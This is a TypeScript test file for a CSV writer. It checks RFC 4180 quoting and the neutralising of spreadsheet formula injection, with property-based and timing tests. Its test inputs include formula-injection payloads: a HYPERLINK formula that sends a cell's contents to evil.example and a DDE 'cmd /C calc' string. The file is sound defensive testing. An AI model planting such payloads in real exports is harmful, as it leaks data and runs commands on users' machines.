import { describe, expect, test } from 'bun:test';
import { array, assert, constantFrom, property, string } from 'fast-check';
import { csvRecord } from '../../src/domain/csv.ts';
import { anyCharacter } from '../helpers/any-character.ts';
import { growthOf } from '../helpers/growth.ts';

/** Reads one record as RFC 4180 writes it, every cell quoted. */
function parse(record: string): string[] {
  const cells: string[] = [];
  let rest = record;
  while (rest !== '\r\n') {
    const [all, cell = ''] = /^,?"((?:[^"]|"")*)"(?=,|\r\n$)/.exec(rest) ?? [];
    if (all === undefined) throw new Error(`no record: ${JSON.stringify(record)}`);
    cells.push(cell.replaceAll('""', '"'));
    rest = rest.slice(all.length);
  }
  return cells;
}

describe('a record', () => {
  test.each([
    { cells: ['a', ''], record: '"a",""\r\n' },
    { cells: ['a,b', 'say "hi"', 'two\r\nlines'], record: '"a,b","say ""hi""","two\r\nlines"\r\n' },
    { cells: ['Müller', '山田'], record: '"Müller","山田"\r\n' },
    {
      cells: ['+12125550123', '2026-11-24T10:00:00-05:00'],
      record: '"+12125550123","2026-11-24T10:00:00-05:00"\r\n',
    },
  ])('quotes every cell: $record', ({ cells, record }) => {
    expect(csvRecord(cells)).toBe(record);
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example?x="&A1,"x")', `'=HYPERLINK("http://evil.example?x="&A1,"x")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1+1', "'＝1+1"],
    ['\t=1', "'\t'=1"],
    ['  =1', "'  =1"],
    ['\uFEFF=1', "'\uFEFF=1"],
    [';\t \n=1', ";'\t' \n'=1"],
    ['a \t=1', "a \t'=1"],
    ['x;=1', "x;'=1"],
    ['x";=1', `x";'=1`],
    ['fine\n=1', "fine\n'=1"],
    ['+1 212 555', "'+1 212 555"],
    ['+1212+1', "'+1212+1"],
    ['a=1', 'a=1'],
    ['a-b', 'a-b'],
  ])('keeps %p text', (cell, written) => {
    expect(csvRecord([cell])).toBe(`"${written.replaceAll('"', '""')}"\r\n`);
  });

  test.each(['\t', '\n ', '; ', ' ', '\uFEFF\r'])('takes no longer for many %j than for few', (blanks) => {
    const textOf = (size: number) => `${blanks.repeat(size / blanks.length)}x`;
    expect(growthOf((text) => csvRecord([text]), { textOf, size: 32_000 })).toBeLessThan(4);
  });

  test('is read as it was written, but for the apostrophes, and begins no formula at any separator', () => {
    const text = array(constantFrom('=', '+', '-', '@', ';', '\t', '\n', '\r', '"', ',', ' ', 'a', "'"), {
      maxLength: 12,
    }).map((each) => each.join(''));
    const cell = string({ unit: anyCharacter, maxLength: 12 });
    for (const kind of [text, cell]) {
      assert(
        property(array(kind, { minLength: 1, maxLength: 4 }), (cells) => {
          const read = parse(csvRecord(cells));
          const plain = (each: string) => each.replaceAll("'", '');
          expect(read.map(plain)).toEqual(cells.map(plain));
          for (const each of read) {
            if (/^\+\d{1,15}$/.test(each)) continue;
            for (const part of each.split(/[;\t\r\n]/)) expect(part.trim()).not.toMatch(/^[=+\-@]/);
          }
        }),
        { numRuns: 500 },
      );
    }
  });
});
